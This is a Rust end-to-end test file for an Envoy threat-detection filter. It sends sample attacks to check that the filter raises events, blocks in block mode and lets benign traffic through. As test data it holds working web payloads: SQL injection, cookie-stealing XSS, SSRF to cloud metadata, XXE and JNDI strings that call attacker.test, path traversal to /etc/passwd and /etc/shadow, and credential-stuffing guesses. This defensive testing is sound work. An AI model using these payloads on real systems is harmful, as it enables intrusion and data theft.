//! Threat rules in a real Envoy: one event per attack class with the right id and Akto's payload,
//! matching requests answered before the upstream in block mode, benign requests untouched.

mod common;

use actorwatch_core::payload::shape_errors;
use actorwatch_e2e::*;
use common::*;
use serde_json::Value;

/// A JWT whose header is `{"alg":"none"}`.
const ALG_NONE: &str = "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.";

fn threat_config(action: &str) -> String {
    threat_config_holding(action, true)
}

fn threat_config_holding(action: &str, hold_headers: bool) -> String {
    format!(
        r#"{{"rules": [], "actor": {{"sources": ["xff", "peer"]}}, "envoy_hold_headers": {hold_headers},
            "threat_rules": [
              {{"id": "SQLInjection", "action": "{action}"}}, {{"id": "XSS", "action": "{action}"}},
              {{"id": "SSRF", "action": "{action}"}}, {{"id": "WeakAuthentication", "action": "{action}"}},
              {{"id": "SSTI", "action": "{action}"}}, {{"id": "XXE", "action": "{action}"}},
              {{"id": "JNDIInjection", "action": "{action}"}}, {{"id": "OpenRedirect", "action": "{action}"}},
              {{"id": "SensitivePathProbe", "action": "{action}"}},
              {{"id": "ParamEnumeration", "distinct": 5, "window_secs": 60, "action": "{action}", "block_secs": 60}}],
            "webhook": {{"url": "http://webhook.test/akto", "hmac_secret": "{SECRET}", "mode": "instant"}}}}"#
    )
}

/// The requests of each attack, one actor each, and the filter id each should raise.
struct Attack {
    actor: &'static str,
    id: &'static str,
    method: &'static str,
    path: &'static str,
    headers: Vec<(&'static str, &'static str)>,
    body: &'static [u8],
}

fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            actor: "198.51.100.1",
            id: "SQLInjection",
            method: "GET",
            path: "/api/orders?id=1%27%20OR%201%3D1--",
            headers: vec![],
            body: b"",
        },
        Attack {
            actor: "198.51.100.2",
            id: "XSS",
            method: "POST",
            path: "/api/comments",
            headers: vec![("content-type", "application/json")],
            body: br#"{"post": 7, "text": "nice <script>alert(document.cookie)</script>"}"#,
        },
        Attack {
            actor: "198.51.100.3",
            id: "SSRF",
            method: "GET",
            path: "/api/orders",
            headers: vec![(
                "x-callback-url",
                "http://169.254.169.254/latest/meta-data/iam/",
            )],
            body: b"",
        },
        Attack {
            actor: "198.51.100.4",
            id: "WeakAuthentication",
            method: "GET",
            path: "/api/orders",
            headers: vec![("authorization", ALG_NONE)],
            body: b"",
        },
        Attack {
            actor: "198.51.100.11",
            id: "SSTI",
            method: "GET",
            path: "/api/orders?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
            headers: vec![],
            body: b"",
        },
        Attack {
            actor: "198.51.100.12",
            id: "XXE",
            method: "POST",
            path: "/api/comments",
            headers: vec![("content-type", "application/xml")],
            body:
                br#"<?xml version="1.0"?><!DOCTYPE c SYSTEM "http://attacker.test/x.dtd"><c>1</c>"#,
        },
        Attack {
            actor: "198.51.100.13",
            id: "JNDIInjection",
            method: "GET",
            path: "/api/orders",
            // In the User-Agent, where SSRF does not look (it reads fetch targets).
            headers: vec![("user-agent", "${${lower:j}ndi:ldap://attacker.test/a}")],
            body: b"",
        },
        Attack {
            actor: "198.51.100.14",
            id: "OpenRedirect",
            method: "GET",
            path: "/api/orders?next=%2F%5Cattacker.test%2F",
            headers: vec![],
            body: b"",
        },
        Attack {
            actor: "198.51.100.15",
            id: "SensitivePathProbe",
            method: "GET",
            path: "/api/actuator/env",
            headers: vec![],
            body: b"",
        },
    ]
}

/// Benign requests that look a little like attacks.
fn benign(c: &mut Client) -> Vec<u16> {
    let actor = [("x-forwarded-for", "198.51.100.9")];
    let json = [
        ("x-forwarded-for", "198.51.100.9"),
        ("content-type", "application/json"),
    ];
    vec![
        c.request("GET", "/api/orders?q=O%27Brien%20select%20union%20station", &actor, b"")
            .map_or(0, |r| r.0),
        c.request(
            "POST",
            "/api/comments",
            &json,
            br#"{"text": "<p>Drop shipping from <b>1 to 10</b>; see https://cdn.example.com/a.png</p>"}"#,
        )
        .map_or(0, |r| r.0),
        c.request("GET", "/api/orders/1", &actor, b"").map_or(0, |r| r.0),
    ]
}

fn send(c: &mut Client, a: &Attack) -> u16 {
    let mut headers = a.headers.clone();
    headers.push(("x-forwarded-for", a.actor));
    c.request(a.method, a.path, &headers, a.body)
        .map_or(0, |r| r.0)
}

#[test]
fn each_attack_raises_exactly_one_event_of_its_rule_and_benign_requests_pass() {
    let api = SampleApi::start();
    let rx = Receiver::start(0);
    let cfg = threat_config("alert");
    let envoy = start(&EnvoySetup::new(&cfg, api.port, rx.port));
    let mut c = envoy.client();
    let attacks = attacks();
    for a in &attacks {
        // Twice: the second match falls in the cooldown.
        assert_ne!(send(&mut c, a), 403, "{} is alert-only", a.id);
        assert_ne!(send(&mut c, a), 403);
    }
    // Object-ID enumeration: 5 distinct ids of one API (a repeat does not count).
    for id in [1, 2, 3, 3, 4, 5] {
        assert_eq!(
            get_as(&mut c, &format!("/api/orders/{id}"), "198.51.100.5"),
            200
        );
    }
    assert_eq!(benign(&mut c), vec![200, 201, 200]);
    let expected = attacks.len() + 1;
    let events = wait_for(WAIT, || Some(rx.events()).filter(|e| e.len() >= expected))
        .unwrap_or_else(|| panic!("{expected} events, got {:?}", rx.events()));
    wait_for(WAIT, || {
        (envoy.metric("threat_suppressed") == attacks.len() as u64).then_some(())
    })
    .unwrap_or_else(|| panic!("suppressed: {}", envoy.metric("threat_suppressed")));
    assert_eq!(rx.events().len(), expected, "{:?}", rx.events());
    // Per rule, each threat counter is one family with the rule as a label: Envoy's stats
    // before tag extraction, and Prometheus's view with the label (the native module's names
    // carry Envoy's `envoy_` prefix, since its namespace is not one of Envoy's custom ones).
    assert_eq!(envoy.metric("threat_xss_matches"), 2);
    assert!(
        metric_stat("threat_xss_matches")
            .ends_with("actorwatch.threat_rule_matches_total.rule.xss"),
        "{}",
        metric_stat("threat_xss_matches")
    );
    let (_, prometheus) = http(envoy.admin, "GET", "/stats/prometheus", &[], b"").unwrap();
    let prometheus = String::from_utf8_lossy(&prometheus);
    let prefix = match host() {
        Host::Wasm => "",
        Host::Native => "envoy_",
    };
    for line in [
        format!("{prefix}actorwatch_threat_rule_matches_total{{rule=\"xss\"}} 2"),
        format!("{prefix}actorwatch_threat_rule_events_total{{rule=\"xss\"}} 1"),
        // Envoy writes `{}` after a series without labels.
        format!(
            "{prefix}actorwatch_threat_suppressed_total{{}} {}",
            attacks.len()
        ),
        format!("# TYPE {prefix}actorwatch_events_queued gauge"),
    ] {
        assert!(
            prometheus.lines().any(|l| l == line),
            "{line} not in {prometheus}"
        );
    }
    assert!(
        !prometheus.contains("actorwatch_threat_xss"),
        "no per-rule names besides the labeled families: {prometheus}"
    );
    let mut by_id: Vec<(String, String, String)> = events
        .iter()
        .map(|e| {
            (
                e["filterId"].as_str().unwrap_or("").to_string(),
                e["actor"].as_str().unwrap_or("").to_string(),
                e["eventType"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    by_id.sort();
    let mut want: Vec<(String, String, String)> = attacks
        .iter()
        .map(|a| (a.id.to_string(), a.actor.to_string(), "SINGLE".to_string()))
        .chain([(
            "ParamEnumeration".to_string(),
            "198.51.100.5".to_string(),
            "AGGREGATED".to_string(),
        )])
        .collect();
    want.sort();
    assert_eq!(by_id, want);
    // Every POST is Akto's shape, one filter per POST, with the rule's own texts.
    for post in rx.accepted() {
        let doc = post.json();
        assert_eq!(shape_errors(&doc), Vec::<String>::new());
        let ids: Vec<&str> = doc["maliciousEvents"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|e| e["filterId"].as_str())
            .collect();
        assert_eq!(ids.len(), 1);
    }
    let sqli = events
        .iter()
        .find(|e| e["filterId"] == "SQLInjection")
        .unwrap();
    assert_eq!(sqli["url"], "/api/orders");
    assert_eq!(sqli["subCategory"], "SQL_INJECTION");
    let orig: Value = serde_json::from_str(
        sqli["maliciousPayloadsResponses"][0]["orig"]
            .as_str()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(orig["threat"]["part"], "query");
    assert_eq!(orig["path"], "/api/orders?id=1%27%20OR%201%3D1--");
    let weak = events
        .iter()
        .find(|e| e["filterId"] == "WeakAuthentication")
        .unwrap();
    assert!(!weak.to_string().contains("eyJhbGciOiJub25lIn0"));
    let xss = events.iter().find(|e| e["filterId"] == "XSS").unwrap();
    let orig: Value = serde_json::from_str(
        xss["maliciousPayloadsResponses"][0]["orig"]
            .as_str()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(orig["threat"]["part"], "body");
    assert_eq!(envoy.metric("threat_blocked"), 0);
}

#[test]
fn block_mode_answers_matching_requests_before_the_upstream() {
    let api = SampleApi::start();
    let rx = Receiver::start(0);
    let cfg = threat_config("block");
    let envoy = start(&EnvoySetup::new(&cfg, api.port, rx.port));
    let mut c = envoy.client();
    for a in attacks() {
        let before = api.hits();
        assert_eq!(send(&mut c, &a), 403, "{}", a.id);
        assert_eq!(api.hits(), before, "{} reached the upstream", a.id);
    }
    // Benign requests (a JSON body among them) reach the API untouched.
    let before = api.hits();
    assert_eq!(benign(&mut c), vec![200, 201, 200]);
    assert_eq!(api.hits(), before + 3);
    // Enumeration blocks the actor (from its next request on, once the blocklist arrives).
    for id in 1..=5 {
        assert_eq!(
            get_as(&mut c, &format!("/api/orders/{id}"), "198.51.100.5"),
            200
        );
    }
    wait_for(WAIT, || {
        (get_as(&mut c, "/api/orders/1", "198.51.100.5") == 429).then_some(())
    })
    .expect("the enumerating actor is blocked");
    let expected = attacks().len() + 1;
    wait_for(WAIT, || Some(rx.events()).filter(|e| e.len() >= expected))
        .unwrap_or_else(|| panic!("{expected} events, got {:?}", rx.events()));
    assert_eq!(envoy.metric("threat_blocked"), attacks().len() as u64);
}

#[test]
fn without_held_headers_a_blocked_body_never_reaches_the_upstream_whole() {
    // Istio's WasmPlugin cannot set allow_on_headers_stop_iteration: the headers go on, the
    // body is held and the request is answered (and its upstream stream reset) before the body
    // is forwarded.
    let api = SampleApi::start();
    let rx = Receiver::start(0);
    let cfg = threat_config_holding("block", false);
    let envoy = start(&EnvoySetup::new(&cfg, api.port, rx.port));
    let mut c = envoy.client();
    let xss = attacks().into_iter().find(|a| a.id == "XSS").unwrap();
    assert_eq!(send(&mut c, &xss), 403);
    let before = api.hits();
    assert_eq!(benign(&mut c), vec![200, 201, 200]);
    assert_eq!(api.hits(), before + 3);
    wait_for(WAIT, || Some(rx.events()).filter(|e| !e.is_empty())).expect("the XSS event");
    assert_eq!(envoy.metric("threat_blocked"), 1);
}

#[test]
fn bodies_are_inspected_up_to_body_max_bytes_and_longer_ones_counted() {
    let api = SampleApi::start();
    let rx = Receiver::start(0);
    let cfg = format!(
        r#"{{"rules": [], "actor": {{"sources": ["xff", "peer"]}}, "body_max_bytes": 64,
            "threat_rules": [{{"id": "XSS"}}],
            "webhook": {{"url": "http://webhook.test/akto", "hmac_secret": "{SECRET}", "mode": "instant"}}}}"#
    );
    let envoy = start(&EnvoySetup::new(&cfg, api.port, rx.port));
    let mut c = envoy.client();
    let post = |c: &mut Client, actor: &str, body: &[u8]| {
        let headers = [("x-forwarded-for", actor), ("content-type", "text/plain")];
        c.request("POST", "/api/comments", &headers, body)
            .map_or(0, |r| r.0)
    };
    let script = b"<script>alert(1)</script>";
    // The attack ends exactly at the limit: inspected.
    let mut within = vec![b'a'; 64 - script.len()];
    within.extend_from_slice(script);
    assert_eq!(post(&mut c, "198.51.100.31", &within), 201);
    // The attack starts one byte after the limit: not inspected, and the body counted as cut.
    let mut beyond = vec![b'a'; 65];
    beyond.extend_from_slice(script);
    assert_eq!(post(&mut c, "198.51.100.32", &beyond), 201);
    let events = wait_for(WAIT, || Some(rx.events()).filter(|e| !e.is_empty())).expect("an event");
    wait_for(WAIT, || {
        (envoy.metric("threat_inspected") == 2).then_some(())
    })
    .unwrap_or_else(|| panic!("inspected: {}", envoy.metric("threat_inspected")));
    assert_eq!(envoy.metric("bodies_truncated"), 1);
    assert_eq!(events.len(), 1);
    assert_eq!(events[0]["actor"], "198.51.100.31");
    // Every inspected body byte arrived upstream untouched.
    assert_eq!(api.hits(), 2);
}

/// Rules that read responses, in Envoy: an attack answered with its effect is a successful
/// exploit, one answered without is not, a 5XX with a stack trace is a `SecurityMisconfig`, and
/// a benign request is never read even when its response would look like a leak. The Wasm
/// host loads the module that exports the response callbacks.
#[test]
fn responses_show_which_attacks_worked() {
    let api = SampleApi::start();
    let rx = Receiver::start(0);
    let cfg = r#"{"rules": [], "actor": {"sources": ["xff", "peer"]},
        "threat_rules": [{"id": "SQLInjection", "inspect_response": true},
                         {"id": "LocalFileInclusionLFIRFI", "inspect_response": true},
                         {"id": "SecurityMisconfig"}],
        "webhook": {"url": "http://webhook.test/akto", "mode": "instant"}}"#;
    let mut setup = EnvoySetup::new(cfg, api.port, rx.port);
    if host() == Host::Wasm {
        setup.wasm = Some(responses_wasm());
    }
    let envoy = start(&setup);
    let mut c = envoy.client();
    let sent = [
        // (actor, path, status the API answers)
        ("198.51.100.41", "/api/orders?id=1%27%20OR%201%3D1--", 200),
        ("198.51.100.42", "/api/search?q=1%27%20OR%201%3D1--", 200),
        (
            "198.51.100.43",
            "/api/files?name=..%2F..%2F..%2Fetc%2Fpasswd",
            200,
        ),
        (
            "198.51.100.44",
            "/api/files?name=..%2F..%2F..%2Fetc%2Fshadow",
            200,
        ),
        ("198.51.100.45", "/api/crash", 500),
        ("198.51.100.45", "/api/report", 500),
        // Benign: the API answers a MySQL error for the quote, but nothing matched the
        // request, so its response is never read.
        ("198.51.100.46", "/api/search?q=O%27Brien", 200),
    ];
    for (actor, path, status) in sent {
        assert_eq!(get_as(&mut c, path, actor), status, "{path}");
    }
    let events = wait_for(WAIT, || Some(rx.events()).filter(|e| e.len() >= 5))
        .unwrap_or_else(|| panic!("5 events, got {:?}", rx.events()));
    let mut seen: Vec<(String, String, Option<bool>, String)> = events
        .iter()
        .map(|e| {
            (
                e["actor"].as_str().unwrap_or("").to_string(),
                e["filterId"].as_str().unwrap_or("").to_string(),
                e["successfulExploit"].as_bool(),
                e["severity"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    seen.sort();
    let row = |actor: &str, id: &str, exploit: Option<bool>, severity: &str| {
        (
            actor.to_string(),
            id.to_string(),
            exploit,
            severity.to_string(),
        )
    };
    assert_eq!(
        seen,
        vec![
            row("198.51.100.41", "SQLInjection", Some(false), "MEDIUM"),
            row("198.51.100.42", "SQLInjection", Some(true), "HIGH"),
            row(
                "198.51.100.43",
                "LocalFileInclusionLFIRFI",
                Some(true),
                "CRITICAL"
            ),
            row(
                "198.51.100.44",
                "LocalFileInclusionLFIRFI",
                Some(false),
                "HIGH"
            ),
            row("198.51.100.45", "SecurityMisconfig", None, "MEDIUM"),
        ]
    );
    for payload in rx.accepted() {
        let errors = shape_errors(&payload.json());
        assert!(errors.is_empty(), "{errors:?}");
    }
    let leak = events
        .iter()
        .find(|e| e["actor"] == "198.51.100.43")
        .and_then(|e| e["maliciousPayloadsResponses"][0]["orig"].as_str())
        .map(|orig| serde_json::from_str::<Value>(orig).unwrap())
        .unwrap();
    assert_eq!(leak["responseEvidence"][0]["leak"], "FILE_CONTENTS");
    // The evidence names what it found, never the file's lines.
    assert!(!leak.to_string().contains("/bin/bash"), "{leak}");
    // Read: four matched requests' responses and the two 500s; not the benign one.
    wait_for(WAIT, || {
        (envoy.metric("responses_inspected") == 6).then_some(())
    })
    .unwrap_or_else(|| {
        panic!(
            "responses_inspected {}",
            envoy.metric("responses_inspected")
        )
    });
    assert_eq!(envoy.metric("threat_exploits"), 2);
    assert_eq!(rx.events().len(), 5, "{:?}", rx.events());
}

/// The default Wasm module leaves the response callbacks out (a request costs the same when
/// no rule reads responses): given rules that read them, it says once which module to load.
#[test]
fn the_default_module_says_which_module_reads_responses() {
    if host() != Host::Wasm {
        return;
    }
    let api = SampleApi::start();
    let rx = Receiver::start(0);
    let cfg = r#"{"rules": [], "threat_rules": [{"id": "SecurityMisconfig"}],
        "webhook": {"url": "http://webhook.test/akto", "mode": "instant"}}"#;
    let envoy = start(&EnvoySetup::new(cfg, api.port, rx.port));
    let mut c = envoy.client();
    for _ in 0..3 {
        assert_eq!(c.get("/api/crash"), 500);
    }
    let told = "load actorwatch_filter_responses.wasm";
    wait_for(WAIT, || envoy.log().contains(told).then_some(()))
        .unwrap_or_else(|| panic!("no hint in the log:\n{}", envoy.log()));
    // Once per worker VM that saw a request (two workers here).
    assert!((1..=2).contains(&envoy.log().matches(told).count()));
    assert!(rx.events().is_empty());
}

/// A credential stuffer that finally gets in, in Envoy: five failed logins flag it (an ordinary
/// event), its first successful login is the hit (`successfulExploit: true`, severity up); a
/// user who mistypes once and then logs in raises nothing.
#[test]
fn a_credential_stuffer_that_finally_succeeds() {
    let api = SampleApi::start();
    let rx = Receiver::start(0);
    let cfg = r#"{"actor": {"sources": ["xff", "peer"]},
        "rules": [{"id": "LOGIN_STUFFING", "statuses": [401], "threshold": 5, "window_secs": 60,
                   "per": "actor_api", "success_statuses": ["2xx"]}],
        "webhook": {"url": "http://webhook.test/akto", "mode": "instant"}}"#;
    let envoy = start(&EnvoySetup::new(cfg, api.port, rx.port));
    let mut c = envoy.client();
    let login = |c: &mut Client, actor: &str, password: &str| {
        let headers = [
            ("x-forwarded-for", actor),
            ("content-type", "application/x-www-form-urlencoded"),
        ];
        let body = format!("user=alice&password={password}");
        c.request("POST", "/login", &headers, body.as_bytes())
            .map_or(0, |r| r.0)
    };
    assert_eq!(login(&mut c, "198.51.100.80", "letmeinn"), 401);
    assert_eq!(login(&mut c, "198.51.100.80", "letmein"), 200);
    for guess in ["123456", "password", "qwerty", "dragon", "monkey"] {
        assert_eq!(login(&mut c, "198.51.100.81", guess), 401);
    }
    wait_for(WAIT, || (rx.events().len() == 1).then_some(()))
        .unwrap_or_else(|| panic!("the flag, got {:?}", rx.events()));
    assert_eq!(login(&mut c, "198.51.100.81", "letmein"), 200);
    let events = wait_for(WAIT, || Some(rx.events()).filter(|e| e.len() >= 2))
        .unwrap_or_else(|| panic!("the hit, got {:?}", rx.events()));
    let seen: Vec<(&str, &str, Option<bool>, &str, &str)> = events
        .iter()
        .map(|e| {
            (
                e["actor"].as_str().unwrap_or(""),
                e["eventType"].as_str().unwrap_or(""),
                e["successfulExploit"].as_bool(),
                e["severity"].as_str().unwrap_or(""),
                e["url"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert_eq!(
        seen,
        vec![
            (
                "198.51.100.81",
                "AGGREGATED",
                Some(false),
                "MEDIUM",
                "/login"
            ),
            ("198.51.100.81", "SINGLE", Some(true), "HIGH", "/login"),
        ]
    );
    assert!(
        !serde_json::to_string(&events).unwrap().contains("letmein"),
        "the password never leaves the proxy"
    );
    assert_eq!(envoy.metric("flagged_successes"), 1);
    assert_eq!(rx.events().len(), 2);
}
